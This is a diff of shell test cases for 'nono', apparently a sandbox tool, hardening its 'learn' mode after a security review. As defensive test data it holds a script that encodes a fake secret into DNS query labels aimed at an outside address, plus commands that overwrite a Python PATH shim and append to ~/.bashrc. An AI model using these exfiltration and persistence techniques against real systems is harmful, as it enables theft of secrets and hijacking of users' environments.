@@ -427,32 +427,44 @@ except OSError as e:
 	assert_contains "$output$stderr" "NONO-HTTP-OK"
 }
 
-@test "learn: writes, creations, renames and removals beyond the grants are performed for the learning run and offered; protected and persistence names stay refused" {
+# Review 2 of session 15 (HIGH): writes performed for real let a learning
+# run rewrite PATH shims and tools' start-up files no list names, and
+# remove files.  A write now goes to a throwaway copy; nothing outside the
+# grants is changed, made or removed.
+@test "learn: writes beyond the grants go to throwaway copies so the command goes on; nothing outside the grants is changed, made or removed" {
 	echo OLD >"$X/old.txt"
 	echo RC >"$HOME/.bashrc"
+	mkdir -p "$HOME/.pyenv/shims"
+	printf '#!/bin/sh\necho REAL-SHIM\n' >"$HOME/.pyenv/shims/python"
+	chmod +x "$HOME/.pyenv/shims/python"
 	run --separate-stderr nono learn -- sh -c "
 		echo new >'$X/new.txt' && echo create:ok
-		echo more >>'$X/one.txt' && echo write:ok
-		mkdir '$X/newdir' && echo mkdir:ok
-		mv '$X/old.txt' '$X/renamed.txt' && echo rename:ok
-		rm '$X/share/a' && echo rm:ok
-		echo evil >>'$HOME/.bashrc'; echo rc=\$?
-		mkdir -p '$X/repo/.git/hooks'; echo git=\$?
-		echo evil >'$X/.envrc'; echo envrc=\$?"
-	for w in create write mkdir rename rm; do
-		assert_contains "$output" "$w:ok" stdout
-	done
-	assert_file_content "$X/new.txt" new
-	[ "$(tail -1 "$X/one.txt")" = more ]
-	[ -d "$X/newdir" ] && [ -f "$X/renamed.txt" ] && [ ! -e "$X/share/a" ]
-	refute_contains "$output" "rc=0" stdout
-	refute_contains "$output" "git=0" stdout
-	refute_contains "$output" "envrc=0" stdout
+		echo more >>'$X/one.txt' && echo append:ok
+		printf '#!/bin/sh\necho PWNED\n' >'$HOME/.pyenv/shims/python' && echo shim:ok
+		echo x >'$HOME/.sqliterc'; echo sqlite=\$?
+		mkdir '$X/newdir'; echo mkdir=\$?
+		mv '$X/old.txt' '$X/renamed.txt'; echo rename=\$?
+		rm '$X/share/a'; echo rm=\$?
+		echo evil >>'$HOME/.bashrc'; echo bashrc=\$?"
+	# The command went on past the writes (its copies; a later open
+	# sees the file as it was).
+	assert_contains "$output" "create:ok" stdout
+	assert_contains "$output" "append:ok" stdout
+	assert_contains "$output" "shim:ok" stdout
+	# Nothing outside the grants changed.
+	[ ! -e "$X/new.txt" ] && [ ! -e "$HOME/.sqliterc" ] && [ ! -e "$X/newdir" ]
+	assert_file_content "$X/one.txt" one
+	assert_file_content "$X/old.txt" OLD
+	[ ! -e "$X/renamed.txt" ] && [ -f "$X/share/a" ]
 	assert_file_content "$HOME/.bashrc" RC
-	[ ! -e "$X/repo/.git" ] && [ ! -e "$X/.envrc" ]
-	assert_contains "$output" "--write" stdout
+	[ "$("$HOME/.pyenv/shims/python")" = REAL-SHIM ]
+	for w in mkdir rename rm bashrc; do
+		refute_contains "$output" "$w=0" stdout
+	done
+	# Each is reported for the profile (protected ones as refused).
 	assert_contains "$output" "$X" stdout
 	assert_contains "$output" "~/.bashrc: protected (" stdout
+	assert_contains "$stderr" "went to throwaway copies" stderr
 	# Control: nono run with the same profile refuses the writes.
 	run nono run -s --allow-cwd -- sh -c "echo new2 >'$X/new2.txt'; echo rc=\$?"
 	refute_contains "$output" "rc=0"
@@ -517,4 +529,55 @@ except OSError as e:
 	echo "$output"
 	assert_status 0
 	assert_contains "$output" "0 missing" stdout
+}
+
+# Review 2 of session 15 (MED): with the network blocked, a name the
+# command put in a "DNS query" (sent nowhere: its UDP is refused, this one
+# went on a TCP socket) was resolved by nono itself after the run, outside
+# the sandbox: a channel out.  Names are resolved only where the command
+# could have asked the resolver itself.
+@test "learn: with the network blocked, names the command put in DNS queries are never looked up by nono" {
+	require_userns
+	require_cmd ip
+	mkdir -p "$HOME/.config/nono/profiles"
+	printf '{"extends":"default","network":{"block":true,"open_port":[18080]}}\n' \
+		>"$HOME/.config/nono/profiles/blocked.json"
+	printf 'nameserver 127.0.0.1\n' >"$TEST_DIR/resolv.conf"
+	cat >"$TEST_DIR/exfil.py" <<'PY'
+import socket, struct
+q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
+for label in ("secret-key-akia1234", "exfil", "test"):
+    q += bytes([len(label)]) + label.encode()
+q += b"\0" + struct.pack(">HH", 1, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+try:
+    s.sendto(q, socket.MSG_NOSIGNAL, ("192.0.2.1", 53))
+except OSError as e:
+    print("sendto:", e.errno)
+c = socket.create_connection(("127.0.0.1", 18080), 3)
+c.sendall(b"GET /index.txt HTTP/1.0\r\n\r\n"); print(c.recv(64)[:12])
+PY
+	mkdir -p "$TEST_DIR/www" && echo NONO-HTTP-OK >"$TEST_DIR/www/index.txt"
+	run --separate-stderr unshare -Urmn sh -c "
+		ip link set lo up || exit 9
+		mount --bind '$TEST_DIR/resolv.conf' /etc/resolv.conf || exit 9
+		'$PY' '$BATS_TEST_DIRNAME/lib/dns_server.py' '$TEST_DIR/dns.ready' '$TEST_DIR/dns.log' >/dev/null 2>&1 </dev/null &
+		d=\$!
+		'$PY' -m http.server --bind 127.0.0.1 --directory '$TEST_DIR/www' 18080 >/dev/null 2>&1 </dev/null &
+		h=\$!
+		for i in \$(seq 100); do [ -s '$TEST_DIR/dns.ready' ] && '$PY' -c 'import socket; socket.create_connection((\"127.0.0.1\", 18080), 1)' 2>/dev/null && break; sleep 0.05; done
+		'$NONO' learn --profile blocked --all -- '$PY' '$TEST_DIR/exfil.py'
+		r=\$?; kill \$d \$h; exit \$r" </dev/null
+	assert_status 0
+	assert_contains "$output" "HTTP/1.0 200" stdout
+	! grep -q secret "$TEST_DIR/dns.log" 2>/dev/null || false
+	# Control: the server logs what it is asked (the harness's own
+	# lookup of a name, outside nono).
+	run unshare -Urmn sh -c "
+		ip link set lo up; mount --bind '$TEST_DIR/resolv.conf' /etc/resolv.conf
+		'$PY' '$BATS_TEST_DIRNAME/lib/dns_server.py' '$TEST_DIR/dns2.ready' '$TEST_DIR/dns.log' >/dev/null 2>&1 </dev/null &
+		d=\$!
+		for i in \$(seq 100); do [ -s '$TEST_DIR/dns2.ready' ] && break; sleep 0.05; done
+		getent hosts control.learn.test; kill \$d" </dev/null
+	grep -q control.learn.test "$TEST_DIR/dns.log"
 }
